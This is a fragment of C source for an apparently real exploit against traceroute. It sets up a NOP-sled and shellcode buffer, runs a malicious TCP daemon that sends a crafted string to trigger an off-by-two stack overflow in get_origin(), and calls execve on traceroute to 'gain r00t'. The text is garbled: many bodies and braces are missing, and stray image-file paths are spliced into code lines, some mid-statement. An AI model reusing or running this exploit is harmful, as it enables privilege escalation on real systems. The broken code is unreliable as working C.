                        case 'H':
                        case 'h':
                        case 's':
                        case 'S':
                        case't':
                        case 'b':
        // make sure the attacker knows what he/she/cowboyneal is doing
        if(exploitMode==NOT_SET) {
                printf("You must specify at least '-d' or '-e'. Type '%s -h' for help.\n", argv[0]);

        // run the malicious, evil daemon and return the attacker to a shell.
        if(exploitMode==DAEMON) {
                // this function will never return.

        // Now run traceroute, making it connect to the malicious daemon.
        // Allocate our shellcode buffer.
        // This buffer pads the stack by about 64K
        // which makes the off-by-two attack possible
        if((buf=(char *)malloc(bufsize))==NULL) {
                perror("Out of memory??!??!?!?: ");

        // fill buffer with NOPs// start the environment variable

        // fill end of buffer with shellcode
        memcpy(buf+bufsize-1-strlen(shellcode), shellcode, strlen(shellcode));

        // null-terminate

        // setup the environment etc

        // spawn traceroute and gain r00t in the process...
        execve(*traceroute, traceroute, env);

// fork, making a daemon listing of port 'service' (ap/47806 by default)
// and return to shell.
void do_daemon(char *service) {
        if(fork()==0) {
        } else {
                printf("Now run this exploit with the '-e' flag.\n");

// the daemon itself
void run_daemon(char *service) {
        int sock,victim_sock,len,i,j;
        struct sockaddr_in server_addr;
        struct sockaddr_in victim_addr;
        char buf[256];
        char exploit_string[4096]=EXPLOIT_START;
        struct servent *sv;

        // make sure the attacker has specified
        // a valid service name (eg. mysql, ftp, ap etc)
        if((sv=getservbyname(service,"tcp"))==NULL) {
                perror("getservbyname(): ");

        // some magic-number voodoo...
        // exploit_string will cause an off-by-two overflow in get_origin()
        // exploit_string:0   'xxxxroute: /1 origin:111'    # tags used by get_origin()
        // exploit_string:24  'a' x 398                     # dummy data
        // exploit_string:422 '\x7f'                        # least-significant byte of EBP
        // exploit_string:423 '\x01'                        # char < '0' to stop processing// exploit_string:424 '\x44\x44\xff\xbb' x 104      # evil EIP containing shellcode
        // exploit_string:528 '\0'                          # NULL terminator
        memset(exploit_string+24, '\0', 4096-1-24);
        memset(exploit_string+24, 'a', 398);
        memset(exploit_string+24+398, '\x7f', 1);

        // the next byte stops get_origin from processing
        // any more of the exploit string.
        memset(exploit_string+24+399,'\x01', 4);

        // now we can fill buf[256] with our evil EIP
        //and bypass the filtering in get_origin(). Yay!
        // More magic numbers...
        while(i<j) {

        // setup TCP socket
        if((sock=socket(AF_INET, SOCK_STREAM, IPPROTO_TCP))==-1) {
                perror("socket(): ");
        server_addr.sin_family = AF_INET;
        server_addr.sin_addr.s_addr = INADDR_ANY;server_addr.sin_port = sv->s_port;

        if((bind(sock, (struct sockaddr *)&server_addr, len))<0) {
                perror("bind(): ");
        if((listen(sock, 1))!=0) {
                perror("listen(): ");
        // wait forconnect from traceroute...
        victim_sock=accept(sock, (struct sockaddr *)&victim_addr, &len);
        // read the IP address thattraceroute sends (and ignore it)
        read(victim_sock, buf, 255);
        // write exploit stringwrite(victim_sock, exploit_string,strlen(exploit_string));
        // so longand thanks for all the fish